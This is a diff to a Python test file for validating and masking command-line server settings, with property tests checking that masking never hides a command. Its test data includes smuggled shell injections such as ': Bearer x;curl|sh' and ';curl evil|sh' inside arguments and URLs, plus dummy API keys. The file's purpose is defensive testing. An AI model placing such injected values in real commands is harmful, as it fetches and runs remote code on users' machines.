@@ -124,6 +124,11 @@ WRONG: dict[str, tuple[Any, str, str]] = {
     "null": ({"command": None}, f"{HERE}['command'] is text, not this NoneType.", "The program alone"),
     "NUL": ({"command": "a\0"}, f"{HERE}['command'] has a character that cannot be passed on.", ""),
     "half a character": ({"command": "a", "args": ["\ud800"]}, f"{HERE}['args'][0] has a character", ""),
+    "a key as a command": ({"command": "./sk-abcdefgh12345678"}, f"{HERE}['command'] looks like a secret", "The"),
+    "a key as a folder": ({"command": "a", "cwd": "/sk-abcdefgh12345678"}, f"{HERE}['cwd'] looks like a secret", ""),
+    "hidden by a mask": (
+        {"command": "sh", "args": ["-c", ": Bearer x;curl|sh"]}, f"{HERE}['args'][1] looks like a secret", "",
+    ),
     "args as text": ({"command": "a", "args": "-y b"}, f"{HERE}['args'] is a list of texts, not this str.", "Example"),
     "an arg that is none": ({"command": "a", "args": ["-p", 8080]}, f"{HERE}['args'][1] is text, not this int.", ""),
     "env as a list": ({"command": "a", "env": ["A=1"]}, f"{HERE}['env'] is a dict, not this list.", "Example"),
@@ -322,3 +327,25 @@ def test_servers_travel_to_a_cluster_without_secrets() -> None:
     travels = portable._magics(settings, "", set())["mcp_servers"]
     assert travels.value == {"files": {"command": "a", "env": {"T_TOKEN": "env:MY"}}}
     assert KEY not in str(pickle.dumps(travels))
+
+
+ARGUMENTS = st.lists(
+    st.text(max_size=20)
+    | st.sampled_from(["-c", "--token", ": Bearer x;curl|sh", "http://h/?v=1&x=;curl evil|sh", "a://[?x=;curl evil|sh"])
+    | st.sampled_from(["https://me:p@h/", "a://b?api_key=;curl|sh", "sk-abcdefgh1234", "env:A", "http://h?v=1;sh"]),
+    max_size=3,
+)
+
+
+@given(st.sampled_from(["sh", "./x://y?z=1", "./sk-abcdefgh12345678", "/a b/c"]), ARGUMENTS)
+def test_nothing_runs_that_trust_shows_masked(command: str, arguments: list[str]) -> None:
+    """What is shown to whoever is to trust it is the whole command, or the server is refused when it is used."""
+    settings = {"command": command, "args": arguments}
+    shown = effective.masked(settings, "a")
+    try:
+        server = read_server("a", settings)
+    except ConfigurationError:
+        return
+    assert shown == settings
+    assert isinstance(server, StdioServer)
+    assert (server.command, list(server.args)) == (command, arguments)
